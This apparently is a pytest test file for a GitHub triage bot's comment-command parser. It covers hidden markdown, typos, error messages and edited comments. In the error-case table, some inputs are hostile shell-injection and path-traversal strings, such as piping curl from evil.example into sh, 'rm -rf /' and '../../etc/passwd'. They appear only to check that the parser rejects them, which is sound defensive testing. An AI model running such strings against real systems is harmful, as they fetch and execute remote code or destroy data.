"""Which lines of a comment are commands, and what they say (bot.command_grammar)."""
from __future__ import annotations

import re

import pytest

from bot.commands import Command, CommandError, new_commands, parse
from bot.command_grammar import MAX_COMMANDS

BOT = "etriage[bot]"


def C(verb, line, **fields):
    return Command(verb, line, **fields)


# (comment body, expected items as (verb or "error", fields or message fragment))
HIDDEN = [  # what GitHub shows as no text, or as code (checked against cmark-gfm below)
    "<!-- /etriage ok-to-test -->",
    "<!--\n/etriage ok-to-test\n-->",
    "thanks <!-- \n/etriage ok-to-test\n --> for this",
    "<!-- unclosed\n/etriage ok-to-test",
    "<pre>\n/etriage ok-to-test\n</pre>",
    "<PRE class=x>\n/etriage rerun\n</PRE>",
    "<pre>\n\n/etriage rerun\n\n</pre>",
    "<code>\n/etriage rerun\n</code>",
    "see `\n/etriage ok-to-test\n` here",
    "``a\n/etriage ok-to-test\n``",
    "<details><summary>x</summary>\n<pre>\n/etriage rerun\n</pre>\n</details>",
]

PARSES = [
    # the plain forms
    ("/etriage rerun", [C("rerun", "/etriage rerun", scope="failed")]),
    ("/etriage rerun all", [C("rerun", "/etriage rerun all", scope="all")]),
    ("/etriage rerun failed --target qnn-htp-sim",
     [C("rerun", "/etriage rerun failed --target qnn-htp-sim", scope="failed", targets=("qnn-htp-sim",))]),
    ("/etriage rerun --target=host --target android-sm8650",
     [C("rerun", "/etriage rerun --target=host --target android-sm8650", scope="failed",
        targets=("host", "android-sm8650"))]),
    ("/etriage run multi_method", [C("run", "/etriage run multi_method", suite="multi_method")]),
    ("/etriage run selected --all", [C("run", "/etriage run selected --all", suite="selected", all_tests=True)]),
    ("/etriage run selected on host --ALL",
     [C("run", "/etriage run selected on host --ALL", suite="selected", targets=("host",), all_tests=True)]),
    ("/etriage run qnn on android-sm8650",
     [C("run", "/etriage run qnn on android-sm8650", suite="qnn", targets=("android-sm8650",))]),
    ("/etriage explain 2", [C("explain", "/etriage explain 2", failure="2")]),
    ("/etriage explain 3fa9c1", [C("explain", "/etriage explain 3fa9c1", failure="3fa9c1")]),
    ("/etriage explain `exir/backend/test/test_to_backend_multi_method.py::T::test_x`",
     [C("explain", "/etriage explain `exir/backend/test/test_to_backend_multi_method.py::T::test_x`",
        failure="exir/backend/test/test_to_backend_multi_method.py::T::test_x")]),
    ('/etriage label "triage: multi-method" "triage: lint"',
     [C("label", '/etriage label "triage: multi-method" "triage: lint"',
        labels=("triage: multi-method", "triage: lint"))]),
    ("/etriage label a a b", [C("label", "/etriage label a a b", labels=("a", "b"))]),
    ('/etriage ignore 1 --reason "flaky on the arm64 runner"',
     [C("ignore", '/etriage ignore 1 --reason "flaky on the arm64 runner"', failure="1",
        reason="flaky on the arm64 runner")]),
    ("/etriage ignore 1 --reason=infra", [C("ignore", "/etriage ignore 1 --reason=infra", failure="1", reason="infra")]),
    ("/etriage ok-to-test", [C("ok-to-test", "/etriage ok-to-test")]),
    ("/etriage help", [C("help", "/etriage help")]),
    # mentions, case, whitespace, unicode
    ("@etriage help", [C("help", "@etriage help")]),
    ("@etriage[bot] help", [C("help", "@etriage[bot] help")]),
    ("@ETRIAGE Help", [C("help", "@ETRIAGE Help")]),
    ("/ETRIAGE RERUN ALL --target QNN-HTP-SIM", [C("rerun", "/ETRIAGE RERUN ALL --target QNN-HTP-SIM", scope="all", targets=("qnn-htp-sim",))]),
    ("   /etriage    rerun     all   ", [C("rerun", "/etriage rerun all", scope="all")]),
    ("/etriage\u00a0rerun\u3000all", [C("rerun", "/etriage rerun all", scope="all")]),
    ("/etriage\trerun", [C("rerun", "/etriage rerun", scope="failed")]),
    ("Thanks!\r\n/etriage help\r\n", [C("help", "/etriage help")]),
    ("/etriage explain тест_юникод", [C("explain", "/etriage explain тест_юникод", failure="тест_юникод")]),
    # not commands at all
    ("", []),
    ("please /etriage rerun", []),  # not at the start of the line
    ("@etriage-helper rerun", []),
    ("@someone rerun", []),
    ("/etriagerun", []),
    ("／etriage rerun", []),  # fullwidth solidus
    ("/etr\u200biage rerun", []),  # zero-width space
    ("`/etriage rerun`", []),  # inline code
    ("> /etriage rerun", []),  # quoted reply
    (">/etriage rerun", []),
    ("    /etriage rerun", []),  # indented code
    ("\t/etriage rerun", []),
    ("```\n/etriage rerun\n```", []),
    ("~~~\n/etriage rerun\n~~~", []),
    ("```sh\n/etriage rerun\n```\n/etriage help", [C("help", "/etriage help")]),
    ("````\n```\n/etriage rerun\n````\n/etriage help", [C("help", "/etriage help")]),  # longer fence
    ("```\n/etriage rerun\n~~~\n/etriage help", []),  # a ~~~ does not close ```, unclosed runs to the end
    ("~~~\n~~~\n/etriage help", [C("help", "/etriage help")]),
    ("   ```\n/etriage rerun\n   ```\n/etriage ok-to-test", [C("ok-to-test", "/etriage ok-to-test")]),
] + [(body, []) for body in HIDDEN] + [
    ("<!-- note -->\n/etriage help", [C("help", "/etriage help")]),
    ("`a` `b`\n/etriage help", [C("help", "/etriage help")]),  # spans closed on their line
    ("`unclosed\n\n/etriage help", [C("help", "/etriage help")]),  # the paragraph ended
    ("<pre>x</pre>\n/etriage help", [C("help", "/etriage help")]),
    # GFM's tag filter shows these as text: so is the command
    ("<textarea>\n/etriage help\n</textarea>", [C("help", "/etriage help")]),
]


@pytest.mark.parametrize("body, expected", PARSES, ids=[repr(b)[:50] for b, _ in PARSES])
def test_parse(body, expected):
    assert parse(body, BOT) == expected


# (comment body, fragment the one error message must contain)
ERRORS = [
    ("/etriage rerunn", "unknown command 'rerunn'; did you mean 'rerun'?"),
    ("/etriage expain 1", "did you mean 'explain'?"),
    ("/etriage ok-to-tset", "did you mean 'ok-to-test'?"),
    ("/etriage deploy prod", "unknown command 'deploy'"),
    ("/etriage", "no command given"),
    ("@etriage", "no command given"),
    ("/etriage rerun sometimes", "`sometimes` is neither 'failed' nor 'all'"),
    ("/etriage rerun failed please", "unexpected argument `please`"),
    ("/etriage rerun --target", "--target needs a value"),
    ("/etriage rerun --targets host", "unknown option `--targets`"),
    ("/etriage rerun --target 'host; curl evil.sh | sh'", "is not a target name"),
    ("/etriage run", "run: missing argument"),
    ("/etriage run qnn at host", "expected `on <target>`"),
    ("/etriage run qnn on", "expected `on <target>`"),
    ("/etriage run qnn --all", "--all applies to the suite `selected` only"),
    ("/etriage run selected --all --all", "--all given twice"),
    ("/etriage run selected --every", "unknown option `--every`"),
    ("/etriage run $(rm -rf /)", "run: "),
    ("/etriage run $(rm", "`$(rm` is not a suite name"),
    ("/etriage run qnn; curl http://evil.example/x | sh", "run: "),
    ("/etriage run qnn;", "`qnn;` is not a suite name"),
    ("/etriage run `rm -rf /`", "run: "),
    ("/etriage run ../../etc/passwd", "is not a suite name"),
    ("/etriage run qnn on host&&reboot", "is not a target name"),
    ("/etriage explain", "explain: missing argument"),
    ("/etriage explain 1 2", "unexpected argument `2`"),
    ("/etriage label", "label: missing argument"),
    ("/etriage ignore 1", 'say why with --reason "..."'),
    ("/etriage ignore 1 --reason", "--reason needs a value"),
    ("/etriage ignore 1 --reason ''", "--reason needs a value"),
    ("/etriage ignore 1 --reason '   '", 'say why with --reason "..."'),
    ("/etriage ignore 1 --reason a --reason b", "--reason given twice"),
    ("/etriage ignore --reason flaky", "ignore: missing argument"),
    ("/etriage ignore 1 --reason " + "x" * 600, "longer than 500 characters"),
    ("/etriage ok-to-test now", "ok-to-test: `now` is not a commit sha (7 to 40 hex digits)"),
    ("/etriage ok-to-test abc1234 def5678", "ok-to-test: unexpected argument `def5678`"),
    ("/etriage help me", "help takes no arguments"),
    ('/etriage label "unclosed', "cannot read the arguments: No closing quotation"),
    ("/etriage explain " + "a" * 5000, "longer than 1000 characters"),
    ("/etriage @everyone", "unknown command `@everyone`"),
]


@pytest.mark.parametrize("body, message", ERRORS, ids=[b[:40] for b, _ in ERRORS])
def test_malformed_commands_become_helpful_errors(body, message):
    [item] = parse(body, BOT)
    assert isinstance(item, CommandError), item
    assert message in item.message
    assert "\n" not in item.message


def test_user_text_in_messages_is_bounded_and_cannot_break_out_of_inline_code():
    [item] = parse("/etriage " + "`@everyone`" + "x" * 500, BOT)
    quoted = item.message.split("unknown command ", 1)[1].split(" ")[0]
    assert quoted.startswith("`") and quoted.count("`") == 2
    assert len(item.message) < 200


def test_commands_and_errors_keep_their_order():
    body = "/etriage help\ntext\n/etriage nope\n@etriage rerun all"
    items = parse(body, BOT)
    assert [type(i).__name__ for i in items] == ["Command", "CommandError", "Command"]
    assert [getattr(i, "verb", None) for i in items] == ["help", None, "rerun"]


def test_a_thousand_commands_are_capped_with_one_error():
    items = parse("/etriage help\n" * 1000, BOT)
    assert len(items) == MAX_COMMANDS + 1
    assert all(isinstance(i, Command) for i in items[:MAX_COMMANDS])
    assert isinstance(items[-1], CommandError)
    assert "990 more were ignored" in items[-1].message


def test_a_comment_over_githubs_size_limit_is_refused_once_only_when_it_holds_commands():
    huge = "/etriage help\n" + "x" * 70000
    [item] = parse(huge, BOT)
    assert isinstance(item, CommandError) and "commands are read only from comments up to" in item.message
    assert parse("y" * 70000, BOT) == []


def test_another_bot_login_changes_the_mention():
    assert parse("@qnn-triage help", "qnn-triage[bot]") == [C("help", "@qnn-triage help")]
    assert parse("@etriage help", "qnn-triage[bot]") == []
    assert parse("/etriage help", "qnn-triage[bot]") == [C("help", "/etriage help")]


# (previous body, new body, verbs of the new commands)
EDITS = [
    (None, "/etriage help", ["help"]),
    ("/etriage help", "/etriage help", []),
    ("/etriage help", "/etriage help\n/etriage rerun", ["rerun"]),
    ("/etriage rerun", "/etriage rerun\n/etriage rerun", ["rerun"]),  # a second one is new
    ("/etriage rerun\n/etriage help", "/etriage help", []),  # removing runs nothing
    ("typo /etriage", "fixed:\n/etriage  help", ["help"]),
    ("/etriage rerunn", "/etriage rerun", ["rerun"]),  # fixing a typo runs the fixed command
    ("/etriage rerunn", "/etriage rerunn\nthanks", []),  # the same error is not answered twice
    ("```\n/etriage rerun\n```", "/etriage rerun", ["rerun"]),  # taken out of a code block
    ("/etriage rerun", "```\n/etriage rerun\n```", []),
]


@pytest.mark.parametrize("previous, body, verbs", EDITS)
def test_an_edit_runs_only_its_new_commands(previous, body, verbs):
    assert [getattr(i, "verb", "error") for i in new_commands(previous, body, BOT)] == verbs


@pytest.mark.parametrize("body", HIDDEN, ids=[repr(b)[:40] for b in HIDDEN])
def test_what_is_hidden_is_what_github_does_not_show_as_text(body):
    """The table's hidden cases, rendered as github.com's cmark-gfm does: the command is in a
    comment, or inside <pre> or <code>, never in the page's text."""
    cmarkgfm = pytest.importorskip("cmarkgfm")
    from cmarkgfm.cmark import Options

    html = cmarkgfm.github_flavored_markdown_to_html(body, options=Options.CMARK_OPT_UNSAFE)
    shown = re.sub(r"<!--.*?-->|<(pre|code)\b[^>]*>.*?</\1>", "", html, flags=re.S | re.I)
    unclosed = re.sub(r"<!--.*|<(pre|code)\b.*", "", shown, flags=re.S | re.I)
    assert "/etriage" not in unclosed, html
